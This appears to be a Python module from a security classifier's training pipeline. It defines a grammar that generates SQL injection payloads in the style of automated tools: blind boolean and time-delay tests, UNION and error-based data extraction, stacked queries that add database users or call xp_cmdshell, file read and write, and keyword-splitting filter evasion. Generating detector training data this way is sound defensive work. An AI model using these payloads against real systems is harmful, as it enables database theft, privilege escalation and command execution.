"""SQL injection as tools write it: prefixes and suffixes around a test, chains of operators."""

from __future__ import annotations

import re
from random import Random

from securitai.train.corpora.attacks.grammar import Grammar
from securitai.train.corpora.attacks.sqli_base import SQL
from securitai.train.corpora.attacks.sqli_union import column_numbers
from securitai.train.corpora.attacks.style import keyword_case, sometimes_percent, sql_blanks
from securitai.train.corpora.kinds import COOKIE, HEADER, NAME, VALUE, AttackKind
from securitai.verdict import Category

_SIGN = re.compile(r"\s*([=<>(),]|<>|!=)\s*")
_WORDS = re.compile(r"(?i)\b(union|select|from|where|sleep|and|or)\b")


def spaced_signs(rng: Random, text: str) -> str:
    """Blanks around every sign, as some collections print their payloads."""
    if rng.random() < 0.75:
        return text
    pad = " " * (1 + int(rng.random() * 2))
    return _SIGN.sub(lambda found: f"{pad}{found[1]}{pad}", text)


def stuffed_words(rng: Random, text: str) -> str:
    """Keywords stuffed with what a filter takes out: ``un<>ion``, ``sel|ect``, ``unscription``."""
    if rng.random() < 0.85:
        return text
    junk = ("<>", "master", "script", "--", "|", "%", "select", "exec", "\\", "*", "/**/", "()")[
        int(rng.random() * 12)
    ]
    return _WORDS.sub(lambda found: found[0][:2] + junk + found[0][2:], text)


_G = Grammar(
    r"""
num:
  2×1
  -‹#1000-9999›
  ‹n›
  ‹word›
  admin
  test
  12
prefix0:
  3×‹num›
  3×‹num›'
  2×‹num›"
  2×‹num›)
  2×‹num›')
  ‹num›")
  ‹num›))
  ‹num›'))
  ‹num›"))
  ‹num›)))
  ‹num›')))
  ‹num›%'
  ‹num›%')
  ‹num›%"
  ‹num›`
  ‹num›`)
  ‹num›`=`1`
  ‹num›"="1"
  ‹num›'='1'
  ‹num›$$
  ‹num›]
  ‹num›}
  ‹num›' IN BOOLEAN MODE)
  ‹num›" IN BOOLEAN MODE)
  ‹num›) IN BOOLEAN MODE)
  ‹num› WHERE ‹x=n›=‹$x›
  ‹num›' WHERE ‹x=n›=‹$x›
  ‹num›" WHERE ‹x=n›=‹$x›
  ‹num›) WHERE ‹x=n›=‹$x›
  ‹num›') WHERE ‹x=n›=‹$x›
  ‹num›) AS ‹az4› WHERE ‹x=n›=‹$x›
  ‹num›' AS ‹az4› WHERE ‹x=n›=‹$x›
  ‹num›')) AS ‹az4› WHERE ‹x=n›=‹$x›
  ‹num› ‹az4›, (‹num›
  ‹num›'||(SELECT '‹az4›' FROM DUAL WHERE ‹x=n›=‹$x›
  ‹num›'+(SELECT ‹az4› WHERE ‹x=n›=‹$x›
suffix0:
  4×‹e›
  3×--
  3×‹sp›#
  2×-- ‹az4›
  -- -
  #‹az4›
  ‹sp›AND '‹x=az4›'='‹$x›
  ‹sp›AND "‹x=az4›"="‹$x›
  ‹sp›AND '‹x=az4›' LIKE '‹$x›
  ‹sp›AND ('‹x=az4›'='‹$x›
  ‹sp›AND (('‹x=az4›'='‹$x›
  ‹sp›AND (((‹x=n›=‹$x›
  ‹sp›AND "1"="1
  ‹sp›AND `1`=`1
  ‹sp›AND ((("‹x=az4›" LIKE "‹$x›
  ‹sp› ‹az4›
  %00
  ‹sp›AND '%'='
  )||'
  )+'
  ‹sp›AND ‹x=n›=‹$x›
case:
  CASE WHEN ‹x=n›=‹n› THEN ‹n› ELSE ‹else› END
  (CASE WHEN ‹n›=‹n› THEN 1 ELSE NULL END)
  (CASE WHEN (‹x=n›=‹$x›) THEN ‹n› ELSE ‹n›*(SELECT ‹n› FROM ‹table›) END)
  (SELECT (CASE WHEN (‹x=n›=‹$x›) THEN ‹n› ELSE 1/(SELECT 0) END))
else:
  JSON('‹az4›')
  0x3A
  NULL
  ‹n›*(SELECT ‹n› FROM INFORMATION_SCHEMA.PLUGINS)
  DROP FUNCTION ‹az4›
  CTXSYS.DRITHSX.SN(1,‹n›)
  (SELECT ‹n› UNION SELECT ‹n›)
  CAST('‹az4›' AS NUMERIC)
test:
  3×‹x=n›=‹$x›
  3×‹n›=‹n›
  NOT ‹x=n›=‹n›
  ‹x=n›=‹n›%16
  (‹x=n›=‹$x›)*‹#10-99›
  ‹case›
  ‹n›=‹case›
  EXTRACTVALUE(‹n›,CASE WHEN (‹n›=‹n›) THEN ‹n› ELSE 0x3A END)
  ELT(‹n›=‹n›,‹n›)
  MAKE_SET(‹n›=‹n›,‹n›)
  IIF(‹n›=‹n›,‹n›,1/0)
  ‹n›=DBMS_PIPE.RECEIVE_MESSAGE('‹az4›',5)
  ‹n›=(SELECT ‹n› FROM PG_SLEEP(5))
  ‹n›=(SELECT COUNT(fuzzBits('‹az4›', 0.001)) FROM numbers(1000000))
  ‹n›=(SELECT COUNT(*) FROM GENERATE_SERIES(1,5000000))
  ‹n›=BENCHMARK(5000000,MD5(0x‹hextext›))
  ‹n›=(SELECT UPPER(XMLType(CHR(60)||CHR(58)||CHR(113)||(SELECT ‹fn› FROM DUAL)||CHR(62))) FROM DUAL)
  EXP(~(SELECT * FROM (SELECT CONCAT('q‹c›‹c›q',(SELECT (ELT(‹x=n›=‹$x›,1))),'q‹c›‹c›q','x'))x))
  ‹n›=CAST((CHR(113)||CHR(‹#97-122›))||(SELECT (CASE WHEN (‹x=n›=‹$x›) THEN 1 ELSE 0 END))::text||(CHR(113)) AS NUMERIC)
  ‹n› IN (SELECT (CHAR(113)+CHAR(‹#97-122›)+(SELECT (CASE WHEN (‹x=n›=‹$x›) THEN CHAR(49) ELSE CHAR(48) END))+CHAR(113)))
  (SELECT ‹n› FROM (SELECT(!SLEEP(5-(IF(‹n›=‹n›,0,5)))))‹az4›)
  (SELECT CONCAT('q‹c›‹c›‹c›q',(SELECT ‹fn›),'q‹c›‹c›‹c›q'))
  ‹n›=LIKE(CHAR(65,66,67,68,69,70,71),UPPER(HEX(RANDOMBLOB(500000000/2))))
  ORD(MID((IFNULL(CAST(‹fn› AS NCHAR),0x20)),‹#1-30›,1))>‹#32-127›
  UNICODE(SUBSTRING((SELECT MAX(ISNULL(CAST(‹col› AS NVARCHAR(4000)),CHAR(32))) FROM ‹table›),‹#1-30›,1))>‹#32-127›
  ASCII(SUBSTR((SELECT NVL(CAST(‹col› AS VARCHAR(4000)),CHR(32)) FROM ‹table›),‹#1-30›,1))>‹#32-127›
  EXISTS(SELECT * FROM ‹table›)
jo = AND¦OR¦AND¦OR¦AND NOT¦OR NOT¦RLIKE¦HAVING¦XOR¦,¦
tool:
  8×‹prefix0› ‹jo› ‹test›‹suffix0›
  2×‹prefix0›;‹stm›‹suffix0›
  2×‹prefix0› ‹stm›‹suffix0›
  ‹prefix0›,‹case›‹suffix0›
  ‹prefix0› ORDER BY ‹#1-99›‹suffix0›
  ‹prefix0› ORDER BY 1‹suffix0›
  2×‹prefix0› UNION ALL SELECT ‹numbers›‹suffix0›
  ‹prefix0› UNION ALL SELECT ‹nulls›‹suffix0›
  ‹prefix0› UNION ALL SELECT ‹nulls›,CONCAT(0x71‹hextext›71,0x‹hexrun›,0x71‹hextext›71),NULL‹suffix0›
  ‹prefix0› PROCEDURE ANALYSE(EXTRACTVALUE(‹n›,CONCAT('\',(BENCHMARK(5000000,MD5('‹az4›'))))),1)‹suffix0›
  ‹prefix0› HAVING ‹x=n›=‹n›‹suffix0›
  ‹prefix0›‹suffix0›
  ‹prefix0›‹.,'"(¦,.()"'¦(.,'")¦"'.,)¦..'(,"¦'(",.›
  (‹test›)
  ‹case›
  IIF(‹n›=‹n›,‹n›,1/0)
nulls = NULL¦NULL,NULL¦NULL,NULL,NULL¦NULL,NULL,NULL,NULL¦NULL,NULL,NULL,NULL,NULL,NULL¦NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL
stm:
  SELECT SLEEP(5)
  SELECT PG_SLEEP(5)
  SELECT (CASE WHEN (‹n›=‹n›) THEN ‹n› ELSE 1/(SELECT 0) END)
  SELECT DBMS_PIPE.RECEIVE_MESSAGE(CHR(‹#65-90›)||CHR(‹#65-90›),5) FROM DUAL
  SELECT COUNT(*) FROM ‹table› AS T1,‹table› AS T2,‹table› AS T3
  WAITFOR DELAY '0:0:5'
  IF(‹n›=‹n›) WAITFOR DELAY '0:0:5'
  DECLARE @x CHAR(9) SET @x=0x303a303a3‹d1› WAITFOR DELAY @x
  DECLARE @x CHAR(9) SET @x=0x303a303a3‹d1› IF(‹n›=‹n›) WAITFOR DELAY @x
  CREATE OR REPLACE FUNCTION SLEEP(int) RETURNS int AS '/lib/libc.so.6','sleep' language 'C' STRICT; SELECT sleep(5)
  CALL REGEXP_SUBSTRING(REPEAT(LEFT(CRYPT_KEY(CHAR(65)||CHAR(69)||CHAR(83),NULL),0),500000000),NULL)
  IF(‹n›=‹n›) SELECT ‹n› ELSE DROP FUNCTION ‹az4›
  BEGIN USER_LOCK.SLEEP(5); END
  SELECT LIKE(CHAR(65,66),UPPER(HEX(RANDOMBLOB(500000000/2))))
v:
  ‹u›'‹d›
  ‹u›‹n0›
  ‹u›@‹az›
  ‹u›\N
  ‹u›(‹n0›)
  ‹u›0x‹#61-99›
  column
  @@version
  ‹kw›
  ('‹az›')
  '‹az›'
  binary '‹d›
  ‹u›ascii(‹n0›)
  pi()
  true
  null
u = ¦¦¦!¦-¦+¦~¦!!¦-+¦+-¦!!!¦- + ¦~!¦ !¦@¦-!
d = 0¦1¦2¦0¦1¦5
n0 = 0¦1¦2¦3¦1.¦.1¦-1¦1.0
kw = LOCALTIME¦current_date¦UTC_TIME¦current_user¦sysdate()¦now()¦curdate()¦UTC_DATE¦LOCALTIMESTAMP¦version()¦schema()¦rand()
bin = =¦!=¦<>¦<=>¦<¦>¦*¦/¦+¦-¦^¦|¦&¦%¦||¦&&¦ like ¦ rlike ¦ regexp ¦ div ¦ mod ¦ is ¦ is not ¦ or ¦ and ¦ xor ¦ sounds like ¦ not like ¦ between 1 and ¦ in ¦<<¦>>¦ not regexp ¦ collate latin1_bin = ¦ LIKE ¦ OR ¦ AND ¦ DIV ¦=
gap = ¦ ¦ ¦  ¦¦
chain:
  2×‹n0›"‹wop1›‹u›"‹d›
  ‹n0›"‹wop1›‹v›‹bin›‹v›#‹az›
  ‹az›"‹wop1›‹u›‹n0›="‹u›‹d›
  ‹az›'‹wop1›‹u›'‹az›
  2×‹az›'‹bin›‹u›'‹d›
  ‹gap›‹az›'‹gap›‹bin›‹gap›‹u›‹n0›‹bin›‹u›'‹d›
  '‹wop1›\N‹bin›‹u›'
  ' or ‹fname›(‹n0›) ‹bin›'‹d›
  ' or ‹col› ‹is not null¦is null¦is not 2¦like '%'›
  ‹az›" or @@global.‹az›‹bin›"‹d›
  =‹az›()
  ‹n›‹bin›‹az›()
  4×‹az›'‹gap›‹bin›‹gap›‹v›‹bin›‹gap›‹v›‹ctail›
  3×‹az›'‹gap›‹bin›‹gap›‹v›‹ctail›
  2×‹gap›‹az›'‹gap›‹bin›‹v›‹bin›‹v›‹bin›‹v›‹ctail›
  ‹n0›'‹bin›‹v› or '‹d›
  ‹n0›'‹bin›‹v›‹bin›'‹d›
  '‹bin›‹v›‹bin›'
  '‹bin›'
  "‹bin›"‹d›
  ‹az›"‹gap›‹bin›‹gap›‹v›="‹d›
  "‹az›"‹bin›‹v›="‹d›
  '‹bin›‹col›‹bin›'
  (‹n0›)or(‹n0›)=(‹n0›)
  (‹n0›)and(‹n0›)‹bin›(‹n0›)
  ‹n0›‹bin›‹v›‹bin›‹v›#
  ‹n0› or ‹v›‹bin›‹v›
  '+COALESCE('‹user›') and ‹v› = ‹v› div ‹v›+'
  ‹n0›) AND ‹c› = ‹n0›
  ‹n›, ‹n›, ‹n›) OR (‹x=d1›=‹$x›
  ‹n›+‹az›()
  ‹n› ‹bin› ‹n›#
  ‹az›';SELECT[‹az›]FROM[‹az›]
  ' or MATCH ‹col› AGAINST ('+‹user› -a' IN BOOLEAN MODE)‹cm›
  ‹az›' union distinct (select null,‹col›,(null)from ‹table›)‹cm›
  ';if 1=1 shutdown‹cm›
  'if(‹v›)like'‹d›
  ‹az›' procedure analyse()‹cm›
  ‹az›' group by ‹col› with rollup having(1)‹cm›
  '||‹az›.‹az›('‹user›','‹rnd›')||'
  or ‹v› ‹bin› ‹v›
  ‹az› ‹op› ‹c› = ‹c›
wop1 = OR¦or¦AND¦and¦xor¦||¦&&¦like¦LIKE¦is¦IS¦in¦div¦or ¦and ¦^
fname = SOUNDEX¦ASCII¦LENGTH¦HEX¦SIGN¦ABS¦BIT_COUNT¦MD5¦ISNULL¦IFNULL¦LOWER
ctail:
  3×‹e›
  #
  #(
  -- -a
  ‹sp›or '‹d›
  ‹sp›and '‹d›
  ‹bin›'‹d›
  ;%00
  -- a
names:
  3×‹az›[0 or ‹errx›#]
  2×‹az›[0,‹errx›]
  ‹az›[‹d1›) union select ‹numbers›#]
  ‹az›`=‹n›) union select ‹numbers›#‹az›
  ‹az›' ‹op› ‹cond›‹cm›
  ‹az›[‹d1›'‹op›‹cond›]
  (‹scalar›)
  ‹az›,(‹scalar›)
  ‹az›;‹scalar›
  ‹az›)‹union0›
errx:
  updatexml(0,concat(0xa,‹fn›),0)
  extractvalue(1,concat(0x7e,(‹scalar›)))
  sleep(‹#1-30›)
  (select*from(select(sleep(‹#1-30›)))‹az›)
union0:
  /**/union/**/select/**/‹numbers›#
  union select ‹numbers›-- -
halves:
  2×‹sp›ORDER BY ‹#1-60›‹sp›
  ORDER BY ‹#1-60›#‹sp›
  ‹n› or ‹x=d1› = ‹$x›
  or ‹x=d1› = ‹$x› #
  exec sp_‹addlogin¦password¦who¦help› '‹az›' , '‹az›'
  create user ‹az› identified by '‹rnd›'
  grant connect to ‹az›; grant resource to ‹az›;
  insert into mysql.user (user, host, password) values ('‹az›', 'localhost', password('‹rnd›'))
  3×'‹sp›union‹sp›select
  union select
  union all select ‹numbers›‹cm›
  ‹sp›UNION SELECT ‹numbers›‹cm›
  2×‹sp›UNION ALL SELECT ‹numbers›‹cm›
  ‹sp›ORDER BY ‹#1-99›‹cm›
  ORDER BY ‹#1-99›--
  order by ‹numbers›
  waitfor delay '00:00:‹#10-59›'
  exec ('sel'+'ect us'+'er')
  '; exec master..xp_cmdshell
  '; exec xp_regread
  ‹op› ‹x=c›=‹$x›
  ‹op› ‹cond›
  having 1=1‹cm›
  ' having 1=1‹cm›
  ' group by ‹col› having 1=1‹cm›
  ‹pre›' or ‹cond›
  ‹errx›
  2×select ‹#1000-999999›*‹#1000-999999›
  select ‹#1000-999999›*‹#1000-999999› as ‹az›
  select md5(‹big›)
  select ‹fn›
  select ‹col›,‹col› from ‹table›;
  create table ‹syl› (‹az› text);
  drop table ‹table›;
  declare @‹c› nvarchar(200) set @‹c›=0x‹hexrun›
  @var select @var as var into ‹az› end --
  ‹az›.‹fn›
  1;(load_file(char(‹#47-122›,‹#47-122›,‹#47-122›,‹#47-122›))),1,1,1;
  ‹cond›‹cm›
  '1' into outfile '‹az›'
  if(‹cond›,‹n›,‹n›) union select ‹d1›
  ‘ or ‹x=d1› = ‹$x› --
  ý or 1=1 --
  ’ or 1=1 --
  ‹pre›" AND 1=0 UNION ALL SELECT "‹user›","‹hexrun›
  ‹user›" or 1=1 or ""="
  ‹col› = ‹rnd›' or ‹x=n›=‹$x›
  ‹pre›%' or 1=1 or '%'='
""",
    SQL,
    {"numbers": column_numbers},
)
_POSTS = (keyword_case, spaced_signs, sql_blanks, sometimes_percent)
_SOME = (VALUE, COOKIE, HEADER)
KINDS = (
    AttackKind("sqli.tool", Category.SQLI, _G.maker("tool", *_POSTS), 6.0, _SOME),
    AttackKind("sqli.chain", Category.SQLI, _G.maker("chain", *_POSTS), 4.0, _SOME),
    AttackKind("sqli.name", Category.SQLI, _G.maker("names"), 1.0, (NAME,)),
    AttackKind("sqli.fragment", Category.SQLI, _G.maker("halves", stuffed_words, *_POSTS), 3.0),
)
